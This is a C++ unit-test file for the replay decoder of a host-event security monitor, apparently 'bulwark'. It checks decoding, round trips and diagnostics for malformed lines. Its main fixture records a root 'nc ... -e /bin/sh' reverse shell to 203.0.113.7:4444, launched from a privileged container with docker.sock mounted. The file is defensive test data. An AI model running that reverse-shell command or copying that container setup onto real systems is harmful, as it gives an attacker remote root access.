// `events:FILE` recordings (src/events/replay): decoding every member, the ancestor chain,
// encode → decode round trips, and bad lines as counted diagnostics that never stop a replay.
#include <unistd.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "events/replay/replay_source.h"

namespace bulwark::events::replay {
namespace {

constexpr std::string_view kLine =
    R"({"v":1,"type":"connect","ts":"2026-11-24T10:00:00.5Z","res":0,"hostname":"node-1",)"
    R"("args":{"fd":3,"addr":"203.0.113.7:4444"},)"
    R"("proc":{"pid":42,"ppid":7,"vpid":1,"name":"nc","exe":"nc","exepath":"/usr/bin/nc.openbsd",)"
    R"("args":["203.0.113.7","4444","-e","/bin/sh"],"cwd":"/","uid":0,"user":"root",)"
    R"("loginuid":4294967295,"cap_effective":["CAP_SYS_ADMIN","CAP_CHOWN"],"env":["A=1","B=x=y"]},)"
    R"("ancestors":[{"pid":7,"name":"bash"},{"pid":1,"name":"containerd-shim"}],)"
    R"("fd":{"type":"ipv4","num":3,"l4proto":"tcp","cip":"172.17.0.2","cport":40000,)"
    R"("sip":"203.0.113.7","sport":4444,"is_server":false,"connected":true},)"
    R"("container":{"id":"0123456789abcdef","name":"web","image":"nginx:1.25","privileged":true,)"
    R"("mounts":[{"source":"/var/run/docker.sock","destination":"/var/run/docker.sock","mode":"rw"}],)"
    R"("k8s":{"namespace":"shop","pod_name":"web-0","labels":{"app":"web"}}},"future":{"x":1}})";

TEST(ReplayDecode, EveryMember) {
  host::HostEvent event;
  std::int64_t ts = 0;
  auto decoded = decodeLine(kLine, event, ts);
  ASSERT_TRUE(decoded) << decoded.error().message;
  EXPECT_EQ(ts, 1'795'514'400'500'000'000);
  EXPECT_EQ(event.type, "connect");
  EXPECT_EQ(event.res, 0);
  EXPECT_EQ(event.hostname, "node-1");
  ASSERT_EQ(event.args.size(), 2U);
  EXPECT_EQ(*event.arg("fd"), "3");
  const host::Process& proc = *event.process;
  EXPECT_EQ(proc.pid, 42);
  EXPECT_EQ(proc.exepath, "/usr/bin/nc.openbsd");
  EXPECT_EQ(proc.args.size(), 4U);
  EXPECT_EQ(proc.loginuid, -1);  // the kernel's unset value
  EXPECT_EQ(proc.cap_effective, (std::uint64_t{1} << 21) | 1U);
  ASSERT_EQ(proc.env.size(), 2U);
  EXPECT_EQ(proc.env[1].second, "x=y");
  ASSERT_NE(proc.parent, nullptr);
  EXPECT_EQ(proc.parent->name, "bash");
  ASSERT_NE(proc.parent->parent, nullptr);
  EXPECT_EQ(proc.parent->parent->name, "containerd-shim");
  EXPECT_EQ(proc.parent->parent->parent, nullptr);
  EXPECT_EQ(event.fd.type, host::Fd::Type::Ipv4);
  EXPECT_EQ(event.fd.name, "172.17.0.2:40000->203.0.113.7:4444");
  EXPECT_EQ(event.fd.sport, 4444);
  ASSERT_NE(event.container, nullptr);
  EXPECT_TRUE(event.container->privileged);
  EXPECT_EQ(event.container->mounts.at(0).destination, "/var/run/docker.sock");
  EXPECT_EQ(event.container->k8s_pod_labels.at("app"), "web");
}

TEST(ReplayDecode, RoundTrip) {
  host::HostEvent event;
  std::int64_t ts = 0;
  ASSERT_TRUE(decodeLine(kLine, event, ts));
  const std::string encoded = encodeLine(event, ts);
  host::HostEvent again;
  std::int64_t ts_again = 0;
  auto decoded = decodeLine(encoded, again, ts_again);
  ASSERT_TRUE(decoded) << decoded.error().message << "\n" << encoded;
  EXPECT_EQ(ts_again, ts);
  // Same bytes the second time: recordings are deterministic.
  EXPECT_EQ(encodeLine(again, ts_again), encoded);
  EXPECT_EQ(again.process->parent->parent->name, "containerd-shim");
  EXPECT_EQ(again.process->cap_effective, event.process->cap_effective);
  EXPECT_EQ(again.container->mounts.size(), 1U);
}

TEST(ReplayDecode, BadLines) {
  host::HostEvent event;
  std::int64_t ts = 0;
  const auto error = [&](std::string_view line) {
    auto decoded = decodeLine(line, event, ts);
    return decoded ? std::string() : decoded.error().message;
  };
  EXPECT_NE(error("{"), "");
  EXPECT_NE(error("[]"), "");
  EXPECT_NE(error(R"({"type":"execve","ts":1})"), "");        // no version
  EXPECT_NE(error(R"({"v":2,"type":"execve","ts":1})"), "");  // a future version
  EXPECT_NE(error(R"({"v":1,"ts":1})"), "");                  // no type
  EXPECT_NE(error(R"({"v":1,"type":"execve"})"), "");         // no time
  EXPECT_EQ(error(R"({"v":1,"type":"execve","ts":1,"proc":{"pid":"x"}})"),
            "'pid' must be an integer");
  EXPECT_EQ(error(R"({"v":1,"type":"execve","ts":1,"fd":{"sport":70000}})"),
            "'sport' is out of range");
  EXPECT_EQ(error(R"({"v":1,"type":"execve","ts":1,"fd":{"type":"socket"}})"),
            "unknown fd type 'socket'");
  EXPECT_EQ(error(R"({"v":1,"type":"execve","ts":1,"proc":{"cap_effective":["CAP_NOPE"]}})"),
            "'cap_effective': unknown capability 'CAP_NOPE'");
  EXPECT_EQ(error(R"({"v":1,"type":"execve","ts":1,"container":{"name":"x"}})"),
            "a container needs an 'id'");
  EXPECT_EQ(error(R"({"v":1,"type":"execve","ts":1})"), "");
}

class ReplayFile : public ::testing::Test {
 protected:
  void SetUp() override {
    path_ = std::filesystem::temp_directory_path() /
            ("bulwark-replay-" + std::to_string(::getpid()) + ".jsonl");
  }
  void TearDown() override { std::filesystem::remove(path_); }

  void write(const std::string& text) { std::ofstream(path_, std::ios::binary) << text; }

  std::filesystem::path path_;
};

TEST_F(ReplayFile, DeliversGoodLinesAndCountsBadOnes) {
  write(std::string(kLine) + "\n  # a comment\nnot json\r\n" + R"({"v":1,"type":"execve","ts":5})" +
        "\n" + std::string(kMaxLineBytes + 10, 'x') + "\n" + R"({"v":1,"type":"procexit","ts":6})");
  ReplaySource source(path_.string());
  core::Diagnostics diagnostics;
  std::vector<std::string> types;
  std::vector<std::uint64_t> nums;
  auto ran = source.run(
      [&](const Event& event) {
        EXPECT_EQ(event.source, Source::Syscall);
        types.push_back(static_cast<const host::HostEvent*>(event.payload)->type);
        nums.push_back(event.num);
      },
      diagnostics);
  ASSERT_TRUE(ran) << ran.error().message;
  EXPECT_EQ(types, (std::vector<std::string>{"connect", "execve", "procexit"}));
  EXPECT_EQ(nums, (std::vector<std::uint64_t>{1, 2, 3}));
  EXPECT_EQ(source.stats().events, 3U);
  EXPECT_EQ(source.stats().bad_lines, 2U);
  const auto reported = diagnostics.sorted();
  ASSERT_EQ(reported.size(), 2U);
  EXPECT_EQ(reported[0].where, path_.string() + ":3");
  EXPECT_EQ(reported[1].where, path_.string() + ":5");
}

TEST_F(ReplayFile, MissingFileIsAnError) {
  ReplaySource source((path_.string() + ".absent"));
  core::Diagnostics diagnostics;
  auto ran = source.run([](const Event&) {}, diagnostics);
  ASSERT_FALSE(ran);
  EXPECT_EQ(ran.error().code, core::ErrorCode::NotFound);
}

}  // namespace
}  // namespace bulwark::events::replay
